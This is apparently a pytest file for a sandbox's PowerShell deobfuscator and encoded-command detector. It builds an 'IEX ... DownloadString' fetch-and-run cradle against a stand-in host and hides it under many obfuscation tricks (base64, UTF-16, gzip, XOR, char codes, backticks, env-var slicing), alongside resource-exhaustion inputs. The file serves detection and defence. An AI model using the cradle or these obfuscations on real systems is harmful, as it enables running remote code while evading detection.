"""PowerShell as it is meant: what obfuscation hides comes out, what cannot be worked out stays, and time is bounded."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest

from workers.sandbox import commands
from workers.sandbox.powershell import layers

URL = "http://a.example/x"


def deflated(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


def narrow(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
MEANT = {
    "joined": "'htt' + 'p://a.ex' + \"ample/x\"",
    "variables": "$a = 'http:'; $b = \"//a.example\"; $c = \"$a$b/x\"; $c",
    "variables with a scope": "$global:a = 'http:'; $script:b = '//a.example'; $a + $b + '/x'",
    "in a text, with a scope": "$a = 'http:'; \"$script:a//a.example/x\"",
    "grown": "$u = 'http:'; $u += '//a.example/x'; ($u)",
    "format": "('{1}{0}' -f '//a.example/x', 'http:')",
    "replace": "'hXXp://a.example/x'.Replace('XX', 'tt')",
    "replace by operator": "'h__p://a.example/x' -replace '_', 't'",
    "characters": f"-join [char[]]({','.join(str(ord(c)) for c in URL)})",
    "characters in a pipe": f"(({','.join(str(ord(c)) for c in URL)}) | % {{ [char]$_ }}) -join ''",
    "exclusive or": f"-join (({','.join(str(ord(c) ^ 9) for c in URL)}) | ForEach-Object {{ [char]($_ -bxor 9) }})",
    "hexadecimal": f"-join ('{' '.join(f'{ord(c):x}' for c in URL)}'.Split(' ') | % {{ [char][convert]::ToInt32("
    f"$_, 16) }})",
    "backwards": f"-join '{URL[::-1]}'[-1..-{len(URL)}]",
    "base64": f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{narrow(URL)}'))",
    "base64 of UTF-16": f"[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('{wide(URL)}'))",
    "gzip": "(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String("
    f"'{base64.b64encode(gzip.compress(CRADLE.encode())).decode()}'), 1))",
    "deflate": f"(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
    f"{deflated(CRADLE)}')))",
    "two layers": f"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{wide(CRADLE)}')))",
    "ticks": "$`a = 'http:'; I`E`X \"http`://a.example/x\"",
    "environment": "\"$env:tem$env:nothing\"; 'http:' + [string]::Join('/', ('', '', 'a.example', 'x'))",
    "a here-string": "$a = @'\nhttp://a.example\n'@; ($a + '/x')",
}  # fmt: skip


@pytest.mark.parametrize("script", MEANT.values(), ids=MEANT)
def test_what_is_meant_comes_out(script: str) -> None:
    assert any(URL in layer for layer in layers(script)), list(layers(script))


WORDS = {
    "& ($env:comspec[4,15,25] -join '') 'x'": "& 'iex'",
    "& ($pshome[21] + $pshome[30] + 'x')": "iex",
    ".('IE' + 'X') $x": "'IEX'",
}


@pytest.mark.parametrize(("script", "word"), WORDS.items())
def test_names_of_commands_come_out(script: str, word: str) -> None:
    assert word in next(layers(script))


STAYS = [
    "Get-Service | Where-Object { $_.Status -eq 'Running' }",
    '$x = Get-Date; Write-Host "It is $x"',
    "$name = $args[0]; 'Hello ' + $name",
    "function Get-Sum($a, $b) { return $a + $b }",
    "for ($i = 0; $i -lt 3; $i++) { $i }",
    "'a' -match '^(a+)+$'",
    "'x' -replace '(a+)+$', 'b'",
    "# 'a' + 'b'",
]


@pytest.mark.parametrize("script", STAYS)
def test_what_cannot_be_known_stays(script: str) -> None:
    assert "".join(next(layers(script)).split()) == "".join(script.split())


HOSTILE = {
    "brackets": "(" * 50_000,
    "lists": "@(" * 30_000,
    "casts": "[char]" * 30_000,
    "assignments": "$a=" * 50_000,
    "sums": "'a'+" * 50_000,
    "calls": "'x'.Replace(" * 20_000,
    "quotes": "'" * 99_999,
    "mixed quotes": "\"'" * 50_000,
    "here-strings": "@'\n" * 50_000,
    "comments": "<#" * 50_000,
    "interpolation": '"' + "$(" * 50_000,
    "growth": "$a='x'*1000;" + "$a=$a+$a;" * 500,
    "repeats": "'x'*1000000*1000000*1000000",
    "pipes": "(1..400000)|%{" * 2_000,
    "formats": "'{0}{0}{0}{0}' -f " * 10_000,
    "base64 in base64": f"[Convert]::FromBase64String('{base64.b64encode(b'A' * 100_000).decode()}');" * 20,
}


@pytest.mark.parametrize("script", HOSTILE.values(), ids=HOSTILE)
def test_hostile_scripts_take_bounded_time(script: str) -> None:
    began = time.process_time()
    for layer in layers(script):
        assert len(layer) < 4_000_000
    assert time.process_time() - began < 8


@pytest.mark.parametrize(
    "switch", ["-e", "/e", "-EncodedCommand", "-ec:", "\u2013enc", "\u2014en", "\u2015enc", '"-enc"', "-NoP -W 1 -Enc"]
)
def test_an_encoded_command_is_seen_however_its_switch_is_written(switch: str) -> None:
    line = f"powershell.exe {switch} {wide(CRADLE)}"
    assert commands.is_encoded(line)
    assert commands.powershell_in(line) == CRADLE


@pytest.mark.parametrize("switch", ["-c", "/Command", "\u2013com", '"-c"'])
def test_a_command_is_seen_however_its_switch_is_written(switch: str) -> None:
    assert commands.powershell_in(f'powershell {switch} "{CRADLE}"') == CRADLE
